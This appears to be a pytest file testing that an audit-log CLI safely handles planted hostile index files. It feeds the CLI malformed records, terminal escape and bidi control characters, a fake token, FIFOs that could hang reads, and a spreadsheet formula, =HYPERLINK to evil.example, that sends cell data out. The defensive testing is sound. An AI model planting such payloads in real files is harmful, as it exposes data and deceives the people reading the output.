"""A local user drops a crafted index into a folder an auditor reads: `exitguard audit list/show/export/verify`
answer with a clear status, never a traceback, never a hang, and print no detected value and no terminal control
that came from the files."""

from __future__ import annotations

import json
import os
import threading
from pathlib import Path

import pytest

from addons.audit import index as auditlog
from addons.cli import main as cli
from tests.audit import fakes

STEM = "audit-000001-20261203T000000Z"
CONTROLS = "\x1b\x9b\x07\u202e"


def hostile_folder(directory: Path, *records: dict | bytes) -> Path:
    directory.mkdir(exist_ok=True)
    (directory / f"{STEM}.jsonl").write_bytes(b"".join(
        (r if isinstance(r, bytes) else json.dumps(r).encode()) + b"\n" for r in records))
    return directory


def run(capsys, directory: Path, *args: str) -> tuple[int, str]:
    code = cli.main(["audit", "--dir", str(directory), *args])
    captured = capsys.readouterr()
    return code, captured.out + captured.err


ODD_TYPES = {"event": "flow", "seq": 1, "time": 5, "flow_id": 7, "host": 3, "identity": ["x"], "findings": "abc",
             "decision": {"a": 1}, "file": 1, "offset": "x", "groups": 4}
COMMANDS = [["list"], ["list", "--since", "2020-01-01"], ["list", "--host", "*"], ["list", "--rule", "r"],
            ["list", "--action", "mask"], ["list", "--identity", "x"], ["export"], ["export", "--format", "csv"],
            ["show", "7"], ["verify"]]


@pytest.mark.parametrize("args", COMMANDS, ids=" ".join)
def test_fields_of_the_wrong_type_are_read_without_a_traceback(tmp_path, capsys, args):
    folder = hostile_folder(tmp_path / "rec", ODD_TYPES)
    code, _ = run(capsys, folder, *args)
    assert code in (0, 1, 2)


@pytest.mark.parametrize("args", [["list"], ["export"], ["verify"], ["show", "abcdefgh"]], ids=" ".join)
def test_a_deeply_nested_line_is_a_malformed_line_not_a_crash(tmp_path, capsys, args):
    good = {"event": "flow", "seq": 1, "flow_id": "abcdefgh-1", "time": "2026-12-03T00:00:00.000Z"}
    folder = hostile_folder(tmp_path / "rec", b"[" * 100_000 + b"]" * 100_000, good)
    code, out = run(capsys, folder, *args)
    if args == ["verify"]:
        assert code == 1 and "malformed" in out
    else:
        assert code in (0, 1)


def test_verify_and_export_print_no_value_and_no_control_from_the_index(tmp_path, capsys):
    """verify quotes a record's `file`, `offset` and `mac` in its problems, and export ends with the chain head
    built from the last record (`time`, `mac`, `key_id`): both were printed as they were in the file."""
    token = fakes.github_token()
    evil = f"\x1b]0;owned\x07 {token} \x9b2J\u202e"
    folder = hostile_folder(tmp_path / "rec", {"event": "flow", "seq": 1, "flow_id": "abcdefgh-1", "file": evil,
                                               "offset": evil, "flow_bytes": 3, "flow_sha256": "0" * 64,
                                               "mac": evil, "time": evil, "key_id": evil, "hash": "0" * 64})
    for args in (["verify"], ["verify", "--json"], ["export"], ["export", "--format", "csv"], ["list"],
                 ["show", "abcdefgh-1"]):
        code, out = run(capsys, folder, *args)
        assert code in (0, 1) and token not in out, args
        if "--json" not in args and "export" not in args:
            assert not any(c in out for c in CONTROLS), (args, out)


def test_a_fifo_in_the_folder_does_not_hang_the_reader(tmp_path, capsys):
    """An index or recording name that is a FIFO (or a link to /dev/zero) would block or never end a read."""
    folder = tmp_path / "rec"
    folder.mkdir()
    os.mkfifo(folder / f"{STEM}.jsonl")
    (folder / "audit-000002-20261203T010000Z.jsonl").symlink_to("/dev/zero")
    results: list[tuple[int, str]] = []
    for args in (["list"], ["verify"], ["export"]):
        reader = threading.Thread(target=lambda a=args: results.append(run(capsys, folder, *a)), daemon=True)
        reader.start()
        reader.join(20)
        if reader.is_alive():
            with open(folder / f"{STEM}.jsonl", "wb"):  # lets the stuck reader go (EOF) before failing
                pass
            pytest.fail(f"audit {' '.join(args)} hangs on a FIFO in the record folder")
    assert [code for code, _ in results] == [2, 2, 2]
    assert all("not a regular file" in out for _, out in results), results


def test_a_fifo_at_the_recording_name_does_not_hang_show(tmp_path, capsys):
    folder = hostile_folder(tmp_path / "rec", {"event": "flow", "seq": 1, "flow_id": "abcdefgh-1",
                                               "file": f"{STEM}.mitm", "offset": 0})
    os.mkfifo(folder / f"{STEM}.mitm")
    done: list[tuple[int, str]] = []
    reader = threading.Thread(target=lambda: done.append(run(capsys, folder, "show", "abcdefgh-1")), daemon=True)
    reader.start()
    reader.join(20)
    if reader.is_alive():
        with open(folder / f"{STEM}.mitm", "wb"):
            pass
        pytest.fail("audit show hangs on a FIFO recording")
    assert done[0][0] == 1 and "cannot be read" in done[0][1]


def test_verify_still_names_the_recording_it_could_not_read(tmp_path, capsys):
    """What the masking must not cost: verify's problems still say which file and offset (a plain name)."""
    folder = hostile_folder(tmp_path / "rec", {"event": "flow", "seq": 1, "flow_id": "abcdefgh-1",
                                               "file": "audit-000009-20261203T000000Z.mitm", "offset": 12,
                                               "flow_bytes": 3, "flow_sha256": "0" * 64})
    code, out = run(capsys, folder, "verify")
    assert code == 1 and "audit-000009-20261203T000000Z.mitm" in out
    assert auditlog.index_files(folder)


def test_exports_carry_no_control_and_no_spreadsheet_formula(tmp_path, capsys):
    """`list --json` and `export` wrote JSON with ensure_ascii=False: C1 controls (8-bit CSI) and bidi overrides
    reached the terminal raw, and CSV cells starting with `=`, `+`, `-`, `@` (a model name, a method: any token
    is one) are formulas in the spreadsheet the CSV is opened in (`=HYPERLINK(...)` sends other cells away)."""
    formula = '=HYPERLINK("https://evil.example/?"&A2,"open")'
    folder = hostile_folder(tmp_path / "rec", {"event": "flow", "seq": 1, "flow_id": "abcdefgh-1",
                                               "time": "2026-12-03T00:00:00.000Z", "model": formula,
                                               "identity": "ali\u202ece\x9b2J", "method": "-1+1",
                                               "path": "/v1/caf\u00e9", "reason": "@SUM(1)"})
    for args in (["list", "--json"], ["export"]):
        code, out = run(capsys, folder, *args)
        assert code == 0 and not any(c in out for c in CONTROLS), (args, out)
        [record, *_] = [json.loads(line) for line in out.splitlines()]
        assert record["identity"] == "ali\u202ece\x9b2J" and record["path"] == "/v1/caf\u00e9"  # the same data
        assert "caf\u00e9" in out  # letters stay letters
    code, out = run(capsys, folder, "export", "--format", "csv")
    assert code == 0 and not any(c in out for c in CONTROLS)
    import csv
    import io
    [row, *_] = list(csv.DictReader(io.StringIO(out)))
    assert row["model"] == "'" + formula and row["method"] == "'-1+1" and row["reason"] == "'@SUM(1)"
    assert row["path"] == "/v1/caf\u00e9" and row["seq"] == "1"
